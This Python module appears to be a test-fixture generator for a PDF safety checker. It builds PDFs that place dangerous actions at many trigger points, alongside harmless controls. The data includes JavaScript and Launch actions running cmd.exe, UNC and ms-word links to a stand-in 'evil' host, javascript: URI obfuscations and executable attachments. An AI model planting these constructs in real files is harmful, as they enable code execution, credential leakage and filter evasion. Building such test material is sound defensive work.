"""PDFs that attack, as data: what runs, fetches or carries in them is written as the inside of objects."""

from __future__ import annotations

import re
from collections.abc import Mapping

MARK = "http://127.0.0.1:9/marke"
_JS = "app.launchURL('http://127.0.0.1:9/marke')"

ACTIONS: Mapping[str, str] = {
    "a script": f"/S /JavaScript /JS ({_JS})",
    "a script with its name written by numbers": f"/S /J#61vaScript /#4a#53 ({_JS})",
    "a script in a stream": "/S /JavaScript /JS 9 0 R",
    "a program": "/S /Launch /F (cmd.exe)",
    "a program for Windows": "/S /Launch /Win << /F (cmd.exe) /P (/c calc) >>",
    "a file on a share": r"/S /GoToR /F (\\\\evil\\share\\a.pdf) /D [0 /Fit]",
    "another file": "/S /GoToR /F (a.pdf) /D [0 /Fit]",
    "a file in the file": "/S /GoToE /T << /R /C /N (a) >> /D [0 /Fit]",
    "a part of the document": "/S /GoToDp /Dp << >>",
    "a form that is sent": f"/S /SubmitForm /F << /FS /URL /F ({MARK}) >> /Flags 4",
    "a form that is emptied": "/S /ResetForm",
    "data that is fetched": r"/S /ImportData /F (\\\\evil\\a.fdf)",
    "a film": "/S /Movie /T (a) /Operation /Play",
    "sound": "/S /Sound /Sound 9 0 R",
    "something that plays": "/S /Rendition /OP 0 /JS (a)",
    "a scene": "/S /GoTo3DView /V /F",
    "a command to what plays": "/S /RichMediaExecute /CMD << /C (a) >>",
    "an article in another file": "/S /Thread /F (a.pdf) /D 0",
    "something that is hidden": "/S /Hide /T (a)",
    "layers that are switched": "/S /SetOCGState /State [/OFF 9 0 R]",
    "a slow transition": "/S /Trans /Trans << /S /Fly >>",
    "an action nobody knows": "/S /Nytt /F (a)",
    "a command of a program": "/S /Named /N /SaveAs",
    "a command to print": "/S /Named /N /Print",
    "a command without a name": "/S /Named",
    "a link that runs": f"/S /URI /URI (javascript:{_JS})",
    "a link that runs, with a space first": f"/S /URI /URI ( javascript:{_JS})",
    "a link that runs, in capitals": f"/S /URI /URI (JaVaScRiPt:{_JS})",
    "a link that runs, in UTF-16": "/S /URI /URI <FEFF" + "javascript:a".encode("utf-16-be").hex() + ">",
    "a link that holds a page": "/S /URI /URI (data:text/html,<script>1</script>)",
    "a link to a file": "/S /URI /URI (file:///etc/passwd)",
    "a link to a share": r"/S /URI /URI (\\\\evil\\share)",
    "a link to a share that looks like the web": r"/S /URI /URI (http:\\\\evil\\share)",
    "a link of Office": "/S /URI /URI (ms-word:ofe|u|http://evil/a.docx)",
    "a link to nowhere": "/S /URI",
    "a link that is no text": "/S /URI /URI /javascript:a",
    "a link with a line break": "/S /URI /URI (https://a.se/\\njavascript:a)",
}
"""Actions. Each is dangerous wherever it stands."""

OPENING_ONLY: Mapping[str, str] = {
    "a web page when opened": "/S /URI /URI (https://www.skolverket.se/)",
    "a command when opened": "/S /Named /N /LastPage",
}
"""Actions that are harmless on a click, and not when the file is opened."""

HARMLESS: Mapping[str, str] = {
    "a place": "/S /GoTo /D [3 0 R /Fit]",
    "the next page": "/S /Named /N /NextPage",
    "a web page": "/S /URI /URI (https://www.skolverket.se/a?b=c#d)",
    "a web page without a lock": "/S /URI /URI (HTTP://www.skolverket.se)",
    "an address": "/S /URI /URI (mailto:a@b.se?subject=Hej)",
}

PLACES: Mapping[str, Mapping[int, str]] = {
    "on a click": {3: "/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << {} >> >>]"},
    "on a click, in an object": {
        3: "/Annots 5 0 R",
        5: "[6 0 R]",
        6: "<< /Subtype /Link /Rect [0 0 9 9] /A 7 0 R >>",
        7: "<< {} >>",
    },
    "on a click on something that says it is structure": {
        3: "/Annots [<< /Type /StructElem /S /P /Subtype /Link /Rect [0 0 9 9] /A << /O /Layout {} >> >>]"
    },
    "after something harmless": {
        3: "/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /GoTo /D [3 0 R /Fit] /Next << {} >> >> >>]"
    },
    "after something harmless, in a row": {
        3: "/Annots [<< /Subtype /Link /Rect [0 0 9 9] "
        "/A << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /GoTo /D [3 0 R /Fit] >> << {} >>] >> >>]"
    },
    "when the file is opened": {1: "/OpenAction << {} >>"},
    "when the file is opened, in an object": {1: "/OpenAction 5 0 R", 5: "<< {} >>"},
    "after the file is opened": {1: "/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>", 5: "<< {} >>"},
    "in the table of contents": {
        1: "/Outlines 5 0 R",
        5: "<< /Type /Outlines /First 6 0 R /Last 6 0 R /Count 1 >>",
        6: "<< /Title (a) /Parent 5 0 R /A << {} >> >>",
    },
    "in a form": {
        1: "/AcroForm << /Fields [5 0 R] >>",
        5: "<< /FT /Btn /T (a) /Subtype /Widget /Rect [0 0 9 9] /A << {} >> >>",
    },
    "where a page came from": {3: "/Annots [<< /Subtype /Link /Rect [0 0 9 9] /PA << {} >> >>]"},
    "in an object that is also a font": {
        3: "/Resources << /Font << /A 5 0 R >> >> /Annots [<< /Subtype /Link /Rect [0 0 9 9] /A 5 0 R >>]",
        5: "<< {} >>",
    },
}
"""Where an action can stand: what is added to each object. The {} is the action's inside."""

OBJECTS: Mapping[str, Mapping[int, str]] = {
    "a script when the page is opened": {3: f"/AA << /O << /S /JavaScript /JS ({_JS}) >> >>"},
    "an address in an action of another sort": {8: f"<< /S /Named /N /NextPage /URI (javascript:{_JS}) >>"},
    "an address that is no text": {8: "<< /S /Named /N /NextPage /URI /javascript:a >>"},
    "something when the document closes": {1: "/AA << /WC << /S /GoTo /D [3 0 R /Fit] >> >>"},
    "a script for the whole document": {
        1: f"/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS ({_JS}) >>] >> >>"
    },
    "an attachment without its type": {
        1: "/Names << /EmbeddedFiles << /Names [(a) << /F (a.exe) /EF << /F 9 0 R >> >>] >> >>"
    },
    "an attachment of the document": {1: "/AF [<< /Type /Filespec /F (a.exe) >>]"},
    "an attachment of a page": {3: "/AF [<< /F (a.exe) /EF << /F 9 0 R >> >>]"},
    "an attachment on the page": {3: "/Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] /FS 9 0 R >>]"},
    "an attachment out of sight": {8: "<< /F (a.exe) /EF << /F 9 0 R >> >>"},
    "a portfolio": {1: "/Collection << /View /D >>"},
    "a film on the page": {3: "/Annots [<< /Subtype /Movie /Rect [0 0 9 9] /Movie << /F (a.avi) >> >>]"},
    "sound on the page": {3: "/Annots [<< /Subtype /Sound /Rect [0 0 9 9] /Sound 9 0 R >>]"},
    "a screen on the page": {3: "/Annots [<< /Subtype /Screen /Rect [0 0 9 9] >>]"},
    "a scene on the page": {3: "/Annots [<< /Subtype /3D /Rect [0 0 9 9] /3DD 9 0 R >>]"},
    "rich media on the page": {3: "/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << >> >>]"},
    "a kind of comment nobody knows": {3: "/Annots [<< /Subtype /Nytt /Rect [0 0 9 9] >>]"},
    "a comment without a place": {3: "/Annots [<< /Subtype /Nytt >>]"},
    "a form of another sort": {1: "/AcroForm << /XFA 9 0 R /Fields [] >>"},
    "a base for addresses": {1: "/URI << /Base (javascript:) >>"},
    "demands on the program": {1: "/Requirements [<< /S /EnableJavaScripts >>]"},
    "a document that must be drawn by a program": {1: "/NeedsRendering true"},
    "pages out of sight": {1: "/Names << /Templates << /Names [(a) 3 0 R] >> >>"},
    "content from another file": {9: "/F (a.bin) /FFilter /FlateDecode"},
    "content from a page elsewhere": {9: "/Type /XObject /Subtype /Form /BBox [0 0 1 1] /Ref << /F (a.pdf) /Page 0 >>"},
    "a picture from a program for print": {9: "/Type /XObject /Subtype /Form /BBox [0 0 1 1] /OPI << >>"},
    "a program in PostScript": {9: "/Type /XObject /Subtype /PS"},
    "a film that is not used": {8: "<< /Type /Rendition /S /MR /C << /S /MCD /D 9 0 R >> >>"},
    "an address for certificates": {
        1: "/AcroForm << /Fields [<< /FT /Sig /T (a) /SV << /Cert << /URL (a) >> >> >>] >>"
    },
}
"""What is dangerous without being an action on a click: what is added to each object, or new ones."""


def pdf(changes: Mapping[int, str] | None = None, head: str = "%PDF-1.7") -> bytes:
    """A PDF of a page, whose objects 1 (the root) and 3 (the page) and 9 (a stream) may hold more, with new objects."""
    more = changes or {}
    objects = {
        1: f"<< /Type /Catalog /Pages 2 0 R /Lang (sv) {more.get(1, '')} >>",
        2: "<< /Type /Pages /Kids [3 0 R] /Count 1 /Resources << >> >>",
        3: f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] /Contents 4 0 R {more.get(3, '')} >>",
        4: "<< /Length 29 >>\nstream\n1 0 0 rg 9 9 50 50 re f      \nendstream",
        9: f"<< /Length 1 {more.get(9, '')} >>\nstream\na\nendstream",
    }
    objects |= {number: text for number, text in more.items() if number not in objects}
    return whole(head + "\n" + "".join(f"{number} 0 obj\n{text}\nendobj\n" for number, text in objects.items()))


def whole(body: str) -> bytes:
    """*body*, the objects of a PDF, with the table that says where they are."""
    data = body.encode("latin-1")
    at = {int(found[1]): found.start() for found in re.finditer(rb"(?m)^(\d+) 0 obj$", data)}
    rows = [b"%010d 00000 n \n" % at[n] if n in at else b"0000000000 65535 f \n" for n in range(max(at) + 1)]
    table = b"xref\n0 %d\n" % len(rows) + b"".join(rows)
    trailer = b"trailer\n<< /Root 1 0 R /Size %d >>\nstartxref\n%d\n%%%%EOF\n" % (len(rows), len(data))
    return data + table + trailer


def placed(place: Mapping[int, str], action: str) -> bytes:
    """A PDF with *action* at *place*."""
    return pdf({number: text.replace("{}", action) for number, text in place.items()})


def files() -> Mapping[str, bytes]:
    """Every attack as a file, by what it is: each action in every place."""
    return {
        **{f"{what}, {where}": placed(place, one) for where, place in PLACES.items() for what, one in ACTIONS.items()},
        **{what: placed(PLACES["when the file is opened"], one) for what, one in OPENING_ONLY.items()},
        **{what: pdf(changes) for what, changes in OBJECTS.items()},
    }
